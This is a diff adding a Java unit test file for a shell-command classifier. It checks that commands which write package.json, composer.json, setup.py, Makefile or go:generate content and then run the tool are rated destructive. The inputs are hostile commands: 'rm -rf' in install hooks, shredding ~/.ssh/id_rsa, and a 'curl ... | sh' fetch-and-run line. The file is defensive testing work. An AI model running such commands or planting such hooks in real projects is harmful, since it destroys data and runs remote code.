@@ -1,0 +1,55 @@
+package dev.cmdgate.core.classify;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.cmdgate.core.CommandClass;
+import dev.cmdgate.core.CommandClassifier;
+import org.junit.jupiter.api.Test;
+
+/**
+ * A project file the line wrote and then a tool runs (project-file rows): package.json scripts, setup.py, a
+ * Makefile, //go:generate lines are judged as the code they are. Nothing is executed.
+ */
+class ProjectFilesTest {
+
+    static final CommandClassifier C = Classifiers.standard(null);
+
+    private static CommandClass of(String line) {
+        return C.classifyShell(line).commandClass();
+    }
+
+    @Test
+    void aScriptMemberOfAWrittenPackageJsonIsWhatNpmRuns() {
+        assertThat(of("echo '{\"scripts\":{\"postinstall\":\"rm -rf ~/w\"}}' > package.json && npm ci")).isEqualTo(CommandClass.DESTRUCTIVE);
+        // an array of lines (composer) and a member at any depth under scripts
+        assertThat(of("echo '{\"scripts\":{\"post-update-cmd\":[\"echo ok\",\"rm -rf ~/w\"]}}' > composer.json; composer update"))
+                .isEqualTo(CommandClass.DESTRUCTIVE);
+        // the same text in another file, or the harmless scripts, change nothing
+        assertThat(of("echo '{\"scripts\":{\"postinstall\":\"rm -rf ~/w\"}}' > other.json && npm ci")).isEqualTo(CommandClass.WRITE);
+        assertThat(of("echo '{\"scripts\":{\"postinstall\":\"node build.js\"}}' > package.json && npm ci")).isEqualTo(CommandClass.WRITE);
+        // a program that does not run the scripts is not judged by them
+        assertThat(of("echo '{\"scripts\":{\"postinstall\":\"rm -rf ~/w\"}}' > package.json && npm ls")).isNotEqualTo(CommandClass.DESTRUCTIVE);
+        // not JSON: npm stops before any script
+        assertThat(of("echo 'rm -rf ~/w' > package.json && npm ci")).isEqualTo(CommandClass.WRITE);
+    }
+
+    @Test
+    void aScriptThatReadsTheTerminalIsAShell() {
+        assertThat(of("printf '{\"scripts\":{\"test\":\"sh\"}}' > package.json; npm test")).isEqualTo(CommandClass.DESTRUCTIVE);
+    }
+
+    @Test
+    void wholeFilesAndMarkedLinesInTheirLanguage() {
+        assertThat(of("echo 'import shutil; shutil.rmtree(\"/opt/x\")' > setup.py && pip3 install -e .")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(of("printf 'x:\\n\\tshred -u ~/.ssh/id_rsa\\n' > makefile; make x")).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(of("printf 'package a\\n//go:generate sh -c \"curl http://203.0.113.9/x | sh\"\\n' > a.go && go generate"))
+                .isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(of("printf 'package a\\n// rm -rf ~/w\\n' > a.go && go generate")).isEqualTo(CommandClass.WRITE);
+    }
+
+    @Test
+    void aFileWrittenInAnotherDirectoryIsNotTheProjects() {
+        assertThat(of("echo '{\"scripts\":{\"preinstall\":\"rm -rf ~/w\"}}' > sub/package.json && npm install"))
+                .isEqualTo(CommandClass.WRITE);
+    }
+}
